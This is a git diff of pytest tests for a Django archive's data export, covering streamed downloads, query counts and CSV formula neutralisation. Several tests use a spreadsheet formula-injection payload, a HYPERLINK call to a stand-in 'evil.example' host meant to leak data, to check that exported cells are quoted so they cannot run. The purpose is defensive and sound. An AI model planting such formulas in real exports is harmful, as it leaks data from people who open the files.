@@ -40,6 +40,12 @@ def empty_archive():
     Category.objects.all().delete()
 
 
+def downloaded(client, url: str) -> bytes:
+    response = client.get(url)
+    assert response.status_code == 200 and response.streaming
+    return b"".join(response.streaming_content)
+
+
 @pytest.fixture
 def exported_json(seeded):
     return dataset.dataset_json(dataset.dataset_tables())
@@ -184,6 +190,11 @@ HOSTILE_JSON = {
     "too long": (lambda t: t["documents"][0].update(title="长" * 301), "documents 表第 1 行，列 title"),
     "bad slug": (lambda t: t["initiatives"][0].update(slug="not a slug"), "initiatives 表第 1 行，列 slug"),
     "years reversed": (lambda t: t["documents"][0].update(year_start=2020, year_end=2010), "列 year_end"),
+    # PostgreSQL refuses NUL in text; refused on SQLite too, so a dataset loads the same on both.
+    "NUL in a title": (
+        lambda t: t["documents"][0].update(title="株洲\x00报告"),
+        "documents 表第 1 行，列 title：含有 NUL",
+    ),
     "unknown year source": (lambda t: t["mentions"][0].update(year_source="guessed"), "列 year_source"),
 }
 
@@ -271,18 +282,18 @@ def test_export_endpoints_are_public_downloads_with_a_dated_filename(client, see
 
 
 def test_api_export_has_absolute_document_urls_and_loads_back(client, seeded):
-    exported = client.get("/api/export/dataset.json").content
+    exported = downloaded(client, "/api/export/dataset.json")
     rows = json.loads(exported)["tables"]["documents"]
     assert rows[0]["url"] == f"http://testserver/documents/{rows[0]['id']}/"
     empty_archive()
     dataset.dataset_load(tables=dataset.dataset_read(exported))
-    assert client.get("/api/export/dataset.json").content == exported
+    assert downloaded(client, "/api/export/dataset.json") == exported
 
 
 def test_each_table_downloads_as_its_own_csv(client, seeded):
     for table in dataset.TABLES:
-        response = client.get(f"/api/export/{table.name}.csv")
-        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        content = downloaded(client, f"/api/export/{table.name}.csv")
+        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
         assert rows[0] == table.column_names
     assert client.get("/api/export/users.csv").status_code == 404
 
@@ -316,6 +327,158 @@ def test_data_page_runs_a_fixed_number_of_queries(client, seeded, django_assert_
         client.get("/data/")
 
 
-def test_export_runs_one_query_per_table(seeded, django_assert_num_queries):
-    with django_assert_num_queries(len(dataset.TABLES)):
+def test_export_runs_one_query_per_table_and_one_per_chunk_of_mentions(
+    seeded, monkeypatch, django_assert_num_queries, django_assert_max_num_queries
+):
+    """The mentions' passages need their reports' bodies: read once per chunk of mentions, not once
+    per mention, nor all at once."""
+    assert Mention.objects.confirmed().count() < 200
+    with django_assert_num_queries(len(dataset.TABLES) + 1):
         dataset.dataset_tables()
+    monkeypatch.setattr("archive.dataset.export.CHUNK_ROWS", 10)
+    chunks = -(-Mention.objects.confirmed().count() // 10)
+    with django_assert_max_num_queries(len(dataset.TABLES) + chunks):
+        dataset.dataset_tables()
+
+
+# Spreadsheet formulas ----------------------------------------------------------------------------
+
+HOSTILE_AND_ORDINARY = [
+    '=HYPERLINK("http://evil.example/?leak","x")',
+    "+1",
+    "-5%",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "''+two quotes",
+    "'just a quote",
+    "'",
+    "",
+    "株洲市全面深化改革",
+    "5-1",
+    "a=b",
+]
+
+
+@pytest.mark.parametrize("value", HOSTILE_AND_ORDINARY)
+def test_a_neutralised_cell_never_starts_a_formula_and_restores_exactly(value):
+    cell = dataset.cell_neutralise(value)
+    assert not cell.startswith(tuple("=+-@\t\r"))
+    assert dataset.cell_restore(cell) == value
+
+
+def test_only_cells_that_could_start_a_formula_change():
+    assert dataset.cell_neutralise("=1+1") == "'=1+1"
+    assert dataset.cell_neutralise("'=1+1") == "''=1+1"
+    assert dataset.cell_neutralise("'quoted") == "'quoted"
+    assert dataset.cell_neutralise("株洲 -5%") == "株洲 -5%"
+
+
+def _hostile_titles():
+    """Seed reports given titles and sources a spreadsheet would run, or that merely look like it."""
+    documents = list(Document.objects.order_by("pk"))
+    values = ['=HYPERLINK("http://evil.example/?leak","x")', "+1", "-5%", "\r=1+1", "''+two quotes"]
+    for document, title in zip(documents, values, strict=True):
+        document.title = title
+        document.save(update_fields=["title"])
+    Document.objects.filter(pk=documents[0].pk).update(
+        source="-5%", authors="@张三", original_filename="'=already quoted.txt"
+    )
+    return values
+
+
+def _text_cells(zipped: bytes):
+    archive = zipfile.ZipFile(io.BytesIO(zipped))
+    for table in dataset.TABLES:
+        rows = list(csv.DictReader(io.StringIO(archive.read(table.csv_filename).decode("utf-8-sig"))))
+        for row in rows:
+            for column in table.columns:
+                if column.type == "text":
+                    yield table.name, column.name, row[column.name]
+
+
+def test_no_csv_cell_of_the_export_starts_a_formula(seeded):
+    _hostile_titles()
+    zipped = dataset.dataset_zip(dataset.dataset_tables())
+    cells = list(_text_cells(zipped))
+    assert ("documents", "title", "'" + '=HYPERLINK("http://evil.example/?leak","x")') in cells
+    assert ("documents", "source", "'-5%") in cells
+    assert not [cell for cell in cells if cell[2].startswith(tuple("=+-@\t\r"))]
+    columns = zipfile.ZipFile(io.BytesIO(zipped)).read("columns.csv").decode("utf-8-sig")
+    assert not [line for line in columns.splitlines() for cell in line.split(",") if cell.startswith(tuple("=+-@"))]
+
+
+def test_each_table_csv_download_is_neutralised_too(client, seeded):
+    _hostile_titles()
+    content = downloaded(client, "/api/export/documents.csv").decode("utf-8-sig")
+    titles = [row["title"] for row in csv.DictReader(io.StringIO(content))]
+    assert "'" + '=HYPERLINK("http://evil.example/?leak","x")' in titles
+    assert not [title for title in titles if title.startswith(tuple("=+-@\t\r"))]
+
+
+def test_hostile_and_ordinary_values_survive_csv_export_load_export(seeded):
+    values = _hostile_titles()
+    first = dataset.dataset_zip(dataset.dataset_tables())
+    empty_archive()
+
+    dataset.dataset_load(tables=dataset.dataset_read(first))
+
+    assert list(Document.objects.order_by("pk").values_list("title", flat=True)[: len(values)]) == values
+    assert Document.objects.filter(source="-5%", authors="@张三", original_filename="'=already quoted.txt").count() == 1
+    assert dataset.dataset_zip(dataset.dataset_tables()) == first
+
+
+def test_json_holds_values_as_they_are(seeded):
+    _hostile_titles()
+    titles = [row["title"] for row in json.loads(dataset.dataset_json(dataset.dataset_tables()))["tables"]["documents"]]
+    assert titles[0] == '=HYPERLINK("http://evil.example/?leak","x")'
+
+
+# Streaming ---------------------------------------------------------------------------------------
+
+
+def test_json_export_is_exactly_json_dumps_though_written_in_chunks(seeded, monkeypatch):
+    monkeypatch.setattr("archive.dataset.export.CHUNK_ROWS", 2)
+    tables = dataset.dataset_tables()
+    for shape in (tables, {**tables, "relations": []}, {}):
+        document = {"format": dataset.FORMAT, "version": dataset.VERSION, "tables": shape}
+        expected = (json.dumps(document, ensure_ascii=False, indent=1) + "\n").encode("utf-8")
+        assert dataset.dataset_json(shape) == expected
+    assert len(list(dataset.dataset_json_chunks(tables))) > len(tables)
+
+
+def test_streamed_downloads_are_the_same_bytes_as_whole_exports(client, seeded, monkeypatch):
+    monkeypatch.setattr("archive.dataset.export.CHUNK_ROWS", 3)
+    tables = dataset.dataset_tables(base_url="http://testserver")
+    assert downloaded(client, "/api/export/dataset.json") == dataset.dataset_json(tables)
+    assert downloaded(client, "/api/export/dataset.zip") == dataset.dataset_zip(tables)
+    assert downloaded(client, "/api/export/mentions.csv") == dataset.table_csv("mentions", tables["mentions"])
+    assert zipfile.ZipFile(io.BytesIO(dataset.dataset_zip(tables))).testzip() is None
+
+
+def test_a_download_reads_rows_as_it_writes_them(seeded, monkeypatch):
+    """The first bytes go out before the reports are read, and a report is written before the next
+    is read: nothing holds the whole archive."""
+    monkeypatch.setattr("archive.dataset.export.CHUNK_ROWS", 1)
+    read = []
+    rows = dataset.dataset_rows
+
+    def counting(name, **kwargs):
+        for row in rows(name, **kwargs):
+            read.append(name)
+            yield row
+
+    monkeypatch.setattr("archive.dataset.export.dataset_rows", counting)
+    chunks = dataset.dataset_json_chunks(dataset.dataset_tables_lazily())
+    next(chunks)
+    assert "documents" not in read
+    while "documents" not in read:
+        next(chunks)
+    assert read.count("documents") == 1 < Document.objects.count()
+
+
+def test_a_head_request_does_not_run_the_export(client, seeded, django_assert_num_queries):
+    with django_assert_num_queries(0):
+        response = client.head("/api/export/dataset.zip")
+    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment;")
